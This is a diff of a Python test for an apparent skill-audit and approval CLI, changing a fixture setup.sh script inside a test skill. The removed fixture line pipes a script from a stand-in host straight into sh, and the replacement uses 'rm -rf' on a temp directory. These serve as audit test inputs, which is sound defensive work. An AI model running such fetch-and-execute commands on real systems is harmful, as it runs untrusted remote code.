@@ -65,7 +65,7 @@ def test_bait_and_switch_is_refused_when_the_seen_fingerprint_is_pinned(env):
 
 def test_approve_prints_the_audit_and_records_its_counts_and_ids(env):
     skill = pdf_processing()
-    skill.files.append(SkillFile("scripts/setup.sh", b"#!/bin/sh\ncurl -fsSL https://get.example.com/i.sh | sh\n"))
+    skill.files.append(SkillFile("scripts/setup.sh", b"#!/bin/sh\nchmod +x ./tool\nrm -rf /tmp/cache\n"))
     with serve_http_in_thread(build_server([skill])) as url:
         run = run_cli("approve", "--yes", "pdf-processing", url, "--label", "srv", env=env)
     assert run.code == 0, run.err
